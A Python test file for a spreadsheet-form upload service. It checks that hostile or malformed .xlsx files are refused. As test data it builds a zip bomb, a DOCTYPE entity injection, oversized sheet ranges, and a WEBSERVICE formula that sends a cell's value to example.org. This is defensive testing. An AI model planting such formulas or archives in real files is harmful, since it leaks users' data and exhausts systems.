"""Files that are no form, or mean harm: refused with a sentence before anything is built; nothing is kept of them."""

import io
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from bihuan.campaigns.models import ReturnForm
from bihuan.campaigns.queries import returns as queries
from bihuan.campaigns.readers.forms import FormLimits, read_form
from bihuan.campaigns.services import returns as services
from bihuan.kernel.errors import Refusal
from tests.campaigns.returns.forms import FOLDER
from tests.campaigns.returns.stage import ReturnStage

GOOD = FOLDER / "villages.xlsx"
SHEET = "xl/worksheets/sheet1.xml"


def changed(path: Path, part: str, old: str, new: str) -> bytes:
    """Return a workbook with one of its parts rewritten."""
    kept = io.BytesIO()
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(kept, "w") as target:
        for entry in source.infolist():
            content = source.read(entry)
            if entry.filename == part:
                text = content.decode()
                assert re.search(old, text)
                content = re.sub(old, new, text, count=1).encode()
            target.writestr(entry.filename, content)
    return kept.getvalue()


def bomb() -> bytes:
    """Return an archive that unpacks to far more than a form is."""
    kept = io.BytesIO(GOOD.read_bytes())
    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.bin", b"\0" * 30_000_000)
    return kept.getvalue()


@pytest.mark.parametrize(
    ("content", "say"),
    [
        (b"", "空的"),
        (b"%PDF-1.4 ...", "不是 .xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "不是 .xlsx"),
        (b"PK\x03\x04 broken", "打不开"),
        (b"PK\x03\x04" + b"x" * 2_200_000, "超过 2 MB"),
        (bomb(), "异常地大"),
        (changed(GOOD, SHEET, 'ref="A1:J1"', 'ref="A1:XFD1048576"'), "太大"),
        (changed(GOOD, SHEET, "<worksheet", '<!DOCTYPE a [<!ENTITY b "c">]><worksheet'), "外部引用"),
        (
            changed(GOOD, SHEET, "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'),
            "太大",
        ),
    ],
    ids=["empty", "pdf", "xls", "broken", "heavy", "bomb", "merged", "entity", "far"],
)
def test_given_a_file_that_means_harm_when_read_then_it_is_refused_with_what_to_do(content: bytes, say: str) -> None:
    with pytest.raises(Refusal, match=re.escape(say)):
        read_form(content, "周报.xlsx")


def test_given_more_sheets_or_cells_than_a_form_has_when_read_then_it_is_refused() -> None:
    with pytest.raises(Refusal, match="太大"):
        read_form(GOOD.read_bytes(), "表.xlsx", FormLimits(cells=10))
    with pytest.raises(Refusal, match="工作表太多"):
        read_form(GOOD.read_bytes(), "表.xlsx", FormLimits(sheets=0))


def test_given_a_sheet_without_anything_to_fill_when_uploaded_then_it_is_refused_and_nothing_is_kept(
    stage: ReturnStage,
) -> None:
    book = Workbook()
    book.worksheets[0]["A1"] = "通知"
    kept = io.BytesIO()
    book.save(kept)

    with pytest.raises(Refusal, match="没有找到要填数的格子"):
        services.upload_form(
            name="通知.xlsx", content=kept.getvalue(), actor=stage.loop.by("office"), now=stage.loop.at
        )

    assert ReturnForm.objects.count() == 0


def test_given_a_formula_that_reaches_out_when_the_form_is_filled_then_it_is_gone(stage: ReturnStage) -> None:
    book = load_workbook(GOOD)
    book["Sheet1"]["L1"] = '=WEBSERVICE("http://example.org/?"&C8)'
    kept = io.BytesIO()
    book.save(kept)
    grid = read_form(kept.getvalue(), "表.xlsx")
    form_id = services.upload_form(
        name="表.xlsx", content=kept.getvalue(), actor=stage.loop.by("office"), now=stage.loop.at
    )
    form = stage.use(ReturnForm.objects.get(pk=form_id))
    row = stage.begin(form, date(2018, 1, 12), date(2018, 1, 18))

    made = queries.workbook_of(stage.loop.by("office"), row.pk, today=stage.loop.day)

    sheet: Any = load_workbook(io.BytesIO(made.content))["Sheet1"]
    assert grid.sheets[0].at(1, 12).formula
    assert sheet["L1"].value is None
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
